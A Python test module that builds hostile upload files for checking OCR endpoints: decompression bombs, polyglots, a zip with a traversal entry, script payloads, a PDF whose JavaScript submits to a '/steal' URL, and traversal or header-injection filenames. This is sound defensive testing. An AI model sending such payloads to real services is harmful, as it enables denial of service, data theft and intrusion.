"""A corpus of hostile upload files, generated in memory (nothing is committed): what each one is, and what the
OCR endpoints may answer for it.

``kind`` says what the file really is: ``image`` (a valid PNG/JPEG/WebP/TIFF/BMP: must be accepted and recognised),
``pdf`` (a valid PDF: accepted by the documents endpoint, 415 from the image endpoint), ``bad`` (must end in one of
``codes``, at once or when the worker fails it), ``either`` (a file a tolerant decoder may repair: accepted, or one of
``codes``; never a 5xx).
"""

import gzip
import io
import os
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field

from PIL import Image, ImageDraw
from pypdf import PdfWriter

BAD_CODES = frozenset({413, 415, 422})


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    kind: str  # image | pdf | bad | either
    filename: bytes = b"upload.png"
    codes: frozenset = field(default=BAD_CODES)


# --- images ---------------------------------------------------------------------------------------------------------


def text_image(size: tuple[int, int] = (64, 64), mode: str = "RGB") -> Image.Image:
    """A small, squarish image with a word on it (squarish: the OCR detector's cost grows with the aspect ratio)."""
    img = Image.new("RGB", size, "white")
    ImageDraw.Draw(img).text((8, size[1] // 3), "Hi 42", fill="black")
    return img.convert(mode) if mode != "RGB" else img


def encode(img: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    img.save(out, fmt, **options)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_claiming(width: int, height: int, raw_bytes: int = 1_000_000, depth: int = 8, color: int = 0) -> bytes:
    """A PNG whose IHDR claims ``width`` x ``height`` with real zlib data (zeros) behind it: a decompression bomb."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    idat = zlib.compress(b"\x00" * raw_bytes, 9)
    return PNG_SIGNATURE + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_with_chunk_before_idat(extra: bytes) -> bytes:
    """A valid 32x32 PNG with ``extra`` (whole chunks) inserted right after IHDR."""
    png = encode(text_image((32, 32)), "PNG")
    ihdr_end = 8 + 25
    return png[:ihdr_end] + extra + png[ihdr_end:]


def png_with_chunk_after_idat(extra: bytes) -> bytes:
    png = encode(text_image((32, 32)), "PNG")
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + extra + png[iend:]


def ztxt_bomb(megabytes: int = 64) -> bytes:
    """A zTXt chunk that inflates to ``megabytes`` MB (the compressed chunk is ~64 kB)."""
    compressor, parts = zlib.compressobj(9), []
    block = b"A" * (1 << 20)
    for _ in range(megabytes):
        parts.append(compressor.compress(block))
    parts.append(compressor.flush())
    return chunk(b"zTXt", b"Comment\x00\x00" + b"".join(parts))


def itxt_bomb(megabytes: int = 64) -> bytes:
    compressor, parts = zlib.compressobj(9), []
    for _ in range(megabytes):
        parts.append(compressor.compress(b"B" * (1 << 20)))
    parts.append(compressor.flush())
    return chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + b"".join(parts))


def tiff_claiming(width: int, height: int) -> bytes:
    """A little-endian TIFF whose IFD claims ``width`` x ``height`` 8-bit grey, one deflate strip of real data."""
    strip = zlib.compress(b"\x00" * 1_000_000, 9)
    entries = [
        (256, 4, 1, width),  # ImageWidth, LONG
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 8),  # Compression: Adobe deflate
        (262, 3, 1, 1),  # Photometric: BlackIsZero
        (273, 4, 1, 0),  # StripOffsets (patched below)
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, height),  # RowsPerStrip
        (279, 4, 1, len(strip)),  # StripByteCounts
    ]
    ifd_offset = 8
    ifd_size = 2 + 12 * len(entries) + 4
    strip_offset = ifd_offset + ifd_size
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        value = strip_offset if tag == 273 else value
        packed = struct.pack("<HHI", tag, typ, count)
        packed += struct.pack("<HH", value, 0) if typ == 3 else struct.pack("<I", value)
        ifd += packed
    ifd += struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", ifd_offset) + ifd + strip


def webp_claiming(width: int, height: int) -> bytes:
    """A lossless WebP whose VP8L header is patched to claim ``width`` x ``height`` (real data of a 64x64 image)."""
    data = bytearray(encode(text_image((64, 64)), "WEBP", lossless=True))
    at = data.index(b"VP8L") + 8 + 1  # chunk header (8), signature byte 0x2f
    bits = int.from_bytes(data[at : at + 4], "little")
    bits = (bits & ~((1 << 28) - 1)) | (width - 1) | ((height - 1) << 14)
    data[at : at + 4] = bits.to_bytes(4, "little")
    return bytes(data)


def gif_claiming(width: int, height: int) -> bytes:
    data = bytearray(encode(text_image((32, 32), "L"), "GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    return bytes(data)


def animated_gif() -> bytes:
    frames = [text_image((64, 48)).convert("P") for _ in range(3)]
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def animated(fmt: str, **options) -> bytes:
    frames = [text_image((64, 48)), Image.new("RGB", (64, 48), "black")]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], **options)


def jpeg_with_exif(exif: Image.Exif) -> bytes:
    return encode(text_image((64, 48)), "JPEG", exif=exif.tobytes())


def absurd_exif_samples() -> list[Sample]:
    rotated = Image.Exif()
    rotated[0x0112] = 9999  # Orientation out of range
    negative = Image.Exif()
    negative[0x0112] = 6
    negative[0x010F] = "A" * 60_000  # Make: a 60 kB string
    samples = [
        Sample("exif-orientation-9999", jpeg_with_exif(rotated), "image", b"exif.jpg"),
        Sample("exif-60kb-string", jpeg_with_exif(negative), "image", b"exif.jpg"),
    ]
    # An EXIF block whose IFD points at itself (a loop) and claims 65535 entries.
    looping = b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0xFFFF) + b"\x00" * 24
    jpeg = encode(text_image((64, 48)), "JPEG")
    app1 = b"\xff\xe1" + struct.pack(">H", len(looping) + 2) + looping
    samples.append(Sample("exif-self-referencing-ifd", jpeg[:2] + app1 + jpeg[2:], "image", b"exif.jpg"))
    garbage = b"Exif\x00\x00" + bytes(random.Random(7).randrange(256) for _ in range(4000))
    app1 = b"\xff\xe1" + struct.pack(">H", len(garbage) + 2) + garbage
    samples.append(Sample("exif-random-garbage", jpeg[:2] + app1 + jpeg[2:], "image", b"exif.jpg"))
    return samples


# --- PDFs -----------------------------------------------------------------------------------------------------------


def pdf_from_objects(objects: list[bytes], *, root: int = 1, broken_xref: bool = False, trailer: bytes = b"") -> bytes:
    """Assemble numbered objects (1..n) into a PDF with a correct (or deliberately wrong) cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % ((offset * 7 + 13) if broken_xref else offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer,
        (xref + 5) if broken_xref else xref,
    )
    return bytes(out)


def content_stream(ops: bytes, *, compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(ops)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return b"<< /Length %d >>\nstream\n" % len(ops) + ops + b"\nendstream"


HELLO_OPS = b"BT /F1 12 Tf 10 40 Td (Hello world) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def simple_pdf(width: float = 100, height: float = 100, *, ops: bytes = HELLO_OPS, **kwargs) -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %g %g] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>" % (width, height),
            content_stream(ops),
            FONT,
        ],
        **kwargs,
    )


def pdf_lying_page_count(count: int = 10_000) -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
        ]
    )


def pdf_many_pages(count: int) -> bytes:
    """A real PDF with ``count`` blank pages, all sharing one page tree (built by hand: fast and small)."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>"] * count
    return pdf_from_objects(objects)


def pdf_page_tree_loop() -> bytes:
    """A page tree whose node lists itself among its kids."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
        ]
    )


def pdf_image_bomb(side: int = 16_000) -> bytes:
    """A 1-inch page showing a ``side`` x ``side`` grey image XObject whose Flate data inflates to side**2 bytes."""
    compressor, parts, row_block = zlib.compressobj(6), [], b"\xff" * (side * 256)
    for _ in range(side // 256):
        parts.append(compressor.compress(row_block))
    parts.append(compressor.flush())
    pixels = b"".join(parts)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode /Length %d >>\nstream\n" % (side, side, len(pixels)) + pixels + b"\nendstream"
    )
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            content_stream(b"q 72 0 0 72 0 0 cm /Im1 Do Q"),
            image,
        ]
    )


def pdf_content_bomb(megabytes: int = 16) -> bytes:
    """A page whose content stream inflates to ``megabytes`` MB of no-op operators."""
    compressor, parts = zlib.compressobj(9), []
    for _ in range(megabytes):
        parts.append(compressor.compress(b"q Q " * (1 << 18)))
    parts.append(compressor.flush())
    data = b"".join(parts)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
        ]
    )


def pdf_with_javascript() -> bytes:
    """A text page with JavaScript as the open action, in the name tree and as a page action."""
    js = b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');) >>"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> >>",
            content_stream(HELLO_OPS),
            FONT,
            js,
        ]
    )


def encrypted_pdf(user_password: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(simple_pdf()))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- other content --------------------------------------------------------------------------------------------------


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("page.png", encode(text_image((32, 32)), "PNG"))
        archive.writestr("../../evil.txt", b"x" * 100_000)
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200


def cuts(data: bytes, fractions=(0.02, 0.4, 0.8)) -> list[tuple[str, bytes]]:
    return [(f"{int(f * 100)}pct", data[: max(8, int(len(data) * f))]) for f in fractions]


def build() -> list[Sample]:
    """Every sample of the corpus (deterministic)."""
    rng = random.Random(20240601)
    hello = text_image()
    samples: list[Sample] = []

    # Truncated files of every supported format, cut at several points.
    originals = {
        "png": encode(hello, "PNG"),
        "jpeg": encode(hello, "JPEG", quality=90),
        "webp": encode(hello, "WEBP", quality=80),
        "tiff": encode(hello, "TIFF", compression="tiff_deflate"),
        "bmp": encode(hello, "BMP"),
    }
    for fmt, data in originals.items():
        samples.append(Sample(f"valid-{fmt}", data, "image", f"hello.{fmt}".encode()))
        for label, cut in cuts(data):
            samples.append(Sample(f"truncated-{fmt}-{label}", cut, "bad", f"cut.{fmt}".encode()))
    pdf = simple_pdf()
    samples.append(Sample("valid-pdf-text-layer", pdf, "pdf", b"hello.pdf"))
    samples.append(Sample("valid-pdf-1-inch-blank", simple_pdf(72, 72, ops=b""), "pdf", b"blank.pdf"))
    for label, cut in cuts(pdf, (0.02, 0.4)):
        samples.append(Sample(f"truncated-pdf-{label}", cut, "bad" if len(cut) < 64 else "either", b"cut.pdf"))
    samples.append(Sample("truncated-pdf-no-eof", pdf[: pdf.rindex(b"startxref")], "either", b"cut.pdf"))

    # Nothing, noise, and other kinds of content named as images.
    samples += [
        Sample("zero-bytes", b"", "bad", b"empty.png", frozenset({422})),
        Sample("one-byte", b"\x89", "bad", b"one.png", frozenset({415})),
        Sample("random-1k", rng.randbytes(1024), "bad", b"noise.png", frozenset({415})),
        Sample("random-300k", rng.randbytes(300_000), "bad", b"noise.jpg", frozenset({415})),
        Sample("text", b"Just some words, honestly.\n" * 20, "bad", b"notes.png", frozenset({415})),
        Sample("html", b"<!doctype html><script>alert(1)</script>", "bad", b"page.png", frozenset({415})),
        Sample(
            "svg-with-script",
            b'<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"><script>alert(1)</script></svg>',
            "bad",
            b"drawing.png",
            frozenset({415}),
        ),
        Sample("json", b'{"file": "page.png", "width": 10}', "bad", b"data.jpg", frozenset({415})),
        Sample("zip", zip_bytes(), "bad", b"archive.png", frozenset({415})),
        Sample("gzip-of-png", gzip.compress(originals["png"]), "bad", b"page.png.png", frozenset({415})),
        Sample("elf", ELF, "bad", b"binary.png", frozenset({415})),
        Sample("gif-static", encode(hello, "GIF"), "bad", b"still.gif", frozenset({415})),
        Sample("gif-animated", animated_gif(), "bad", b"moving.gif", frozenset({415})),
        Sample("ico", encode(text_image((32, 32)), "ICO"), "bad", b"favicon.png", frozenset({415})),
        Sample("jpeg2000-named-jpg", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 100, "bad", b"a.jpg"),
        Sample("png-magic-only", PNG_SIGNATURE, "bad", b"magic.png", frozenset({422})),
        Sample("bmp-magic-dib-size", b"BM" + b"\x00" * 12 + struct.pack("<I", 40) + b"\x00" * 36, "bad", b"a.bmp"),
        Sample("tiff-magic-no-ifd", b"II*\x00" + struct.pack("<I", 1 << 30), "bad", b"a.tiff", frozenset({422})),
        Sample("pdf-header-only", b"%PDF-1.7\n", "bad", b"a.pdf", frozenset({422})),
    ]

    # Polyglots.
    samples += [
        Sample("pdf-header-png-body", b"%PDF-1.4\n" + originals["png"], "bad", b"poly.png", frozenset({415, 422})),
        Sample("png-magic-pdf-body", PNG_SIGNATURE + pdf, "bad", b"poly.pdf", frozenset({422})),
        Sample("png-with-pdf-appended", originals["png"] + pdf, "image", b"poly.png"),
        Sample("pdf-header-at-1000-after-noise", rng.randbytes(990) + pdf, "either", b"poly.pdf"),
        Sample("html-with-pdf-inside", b"<html>" + pdf + b"</html>", "either", b"poly.html"),
    ]

    # Decompression bombs: huge claimed dimensions over real compressed data, and huge text chunks.
    samples += [
        Sample("png-bomb-100000x100000", png_claiming(100_000, 100_000), "bad", b"bomb.png", frozenset({413})),
        Sample(
            "png-bomb-16bit-rgba-20000",
            png_claiming(20_000, 20_000, depth=16, color=6),
            "bad",
            b"b.png",
            frozenset({413}),
        ),
        Sample("png-bomb-max-int", png_claiming(2**31 - 1, 2**31 - 1), "bad", b"bomb.png", frozenset({413, 422})),
        Sample("png-bomb-zero-width", png_claiming(0, 1000), "bad", b"zero.png", frozenset({422})),
        Sample("png-huge-ztxt-before-idat", png_with_chunk_before_idat(ztxt_bomb()), "either", b"z.png"),
        Sample("png-huge-ztxt-after-idat", png_with_chunk_after_idat(ztxt_bomb()), "either", b"z.png"),
        Sample("png-huge-itxt", png_with_chunk_before_idat(itxt_bomb()), "either", b"i.png"),
        Sample(
            "png-10000-text-chunks", png_with_chunk_before_idat(chunk(b"tEXt", b"k\x00v") * 10_000), "either", b"t.png"
        ),
        Sample("tiff-bomb-100000x100000", tiff_claiming(100_000, 100_000), "bad", b"bomb.tif", frozenset({413})),
        Sample("webp-bomb-16384x16384", webp_claiming(16_384, 16_384), "bad", b"bomb.webp", frozenset({413, 422})),
        Sample("gif-bomb-65535x65535", gif_claiming(65_535, 65_535), "bad", b"bomb.gif", frozenset({415})),
        Sample("jpeg-bomb-65500x65500", jpeg_claiming(65_500, 65_500), "bad", b"bomb.jpg", frozenset({413, 422})),
    ]

    # PDFs built to hurt.
    samples += [
        Sample("pdf-declares-10000-pages", pdf_lying_page_count(), "either", b"many.pdf"),
        Sample("pdf-really-201-pages", pdf_many_pages(201), "bad", b"many.pdf", frozenset({422})),
        Sample("pdf-page-100000pt", simple_pdf(100_000, 100_000), "bad", b"poster.pdf", frozenset({422})),
        Sample("pdf-page-zero-size", simple_pdf(0, 0), "either", b"zero.pdf"),  # PDFium falls back to Letter
        Sample("pdf-page-negative-size", simple_pdf(-500, -500), "either", b"neg.pdf"),
        Sample("pdf-encrypted-user-password", encrypted_pdf("user-secret"), "bad", b"locked.pdf", frozenset({422})),
        Sample("pdf-encrypted-owner-only", encrypted_pdf(""), "pdf", b"perms.pdf"),
        Sample("pdf-javascript-action", pdf_with_javascript(), "pdf", b"js.pdf"),
        Sample("pdf-malformed-xref", simple_pdf(broken_xref=True), "either", b"xref.pdf"),
        Sample("pdf-page-tree-loop", pdf_page_tree_loop(), "either", b"loop.pdf"),
        Sample("pdf-image-xobject-bomb", pdf_image_bomb(), "either", b"imgbomb.pdf"),
        Sample("pdf-content-stream-bomb", pdf_content_bomb(), "either", b"ops.pdf"),
    ]

    # Valid but unusual images.
    cmyk = encode(text_image((64, 48), "CMYK"), "JPEG")
    samples += [
        Sample("png-1x1", encode(Image.new("RGB", (1, 1), "white"), "PNG"), "image", b"dot.png"),
        Sample("png-65535x1", encode(Image.new("L", (65_535, 1), 255), "PNG"), "image", b"line.png"),
        Sample("png-1x65535", encode(Image.new("L", (1, 65_535), 255), "PNG"), "image", b"column.png"),
        Sample("jpeg-cmyk", cmyk, "image", b"cmyk.jpg"),
        Sample("png-16bit-grey", encode(text_image((64, 48), "I;16"), "PNG"), "image", b"deep.png"),
        Sample("png-palette-transparent", encode(text_image((64, 48), "P"), "PNG", transparency=0), "image", b"p.png"),
        Sample("png-la", encode(text_image((64, 48), "LA"), "PNG"), "image", b"la.png"),
        Sample("png-1bit", encode(text_image((64, 48), "1"), "PNG"), "image", b"bw.png"),
        Sample("jpeg-progressive", encode(hello, "JPEG", progressive=True), "image", b"prog.jpg"),
        Sample("tiff-multipage", animated("TIFF"), "image", b"pages.tiff"),
        Sample("tiff-float32", encode(text_image((64, 48), "F"), "TIFF"), "image", b"float.tiff"),
        Sample("webp-animated", animated("WEBP", duration=100), "image", b"moving.webp"),
        Sample("png-animated-apng", animated("PNG", duration=100), "image", b"moving.png"),
        Sample("bmp-rle8", bmp_rle8(), "either", b"rle.bmp"),
        *absurd_exif_samples(),
    ]

    # Names: path traversal, control characters, non-UTF-8 bytes, a huge name, header injection.
    png = originals["png"]
    for label, filename, kind in [
        ("name-path-traversal", b"../../etc/passwd.png", "image"),
        ("name-windows-traversal", b"..\\..\\Windows\\win.ini.png", "image"),
        ("name-nul", b"evil\x00.png", "image"),
        ("name-250-chars", "é".encode() * 125 + b".png", "image"),
        ("name-2000-chars", b"a" * 2000 + b".png", "image"),
        ("name-absolute", b"/etc/cron.d/evil.png", "image"),
        ("name-url-encoded-traversal", b"%2e%2e%2f%2e%2e%2fetc%2fpasswd.png", "image"),
        ("name-html-entities-traversal", b"&#46;&#46;&#47;&#46;&#46;&#47;x.png", "image"),
        # A raw line break or quote in the part header: accepted under some name, or no file arrived (422).
        ("name-newline", b"evil\r\nX-Injected: 1.png", "either"),
        ("name-quote-semicolon", b'a"; name="files"; filename="b.png', "either"),
        # Django's parser drops a part whose name is "..", or whose header is not UTF-8: no file arrived, 422.
        ("name-only-dots", b"..", "bad"),
        ("name-non-utf8", b"\xff\xfe\xfa\xce.png", "bad"),
    ]:
        samples.append(Sample(label, png, kind, filename, frozenset({422}) if kind == "bad" else BAD_CODES))
    return samples


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(encode(text_image((64, 48)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def bmp_rle8() -> bytes:
    """An 8-bit RLE-compressed BMP (written by hand: Pillow does not write RLE)."""
    width, height = 16, 4
    rows = b"".join(bytes([width, 200]) + b"\x00\x00" for _ in range(height)) + b"\x00\x01"
    palette = b"".join(bytes([i, i, i, 0]) for i in range(256))
    header_size = 14 + 40 + len(palette)
    dib = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(rows), 2835, 2835, 256, 0)
    file_header = b"BM" + struct.pack("<IHHI", header_size + len(rows), 0, 0, header_size)
    return file_header + dib + palette + rows


def oversized(limit: int) -> Sample:
    """A real PNG padded past ``limit`` bytes (an ancillary chunk of noise)."""
    padding = chunk(b"prVt", os.urandom(limit))
    return Sample("over-the-byte-limit", png_with_chunk_before_idat(padding), "bad", b"big.png", frozenset({413}))
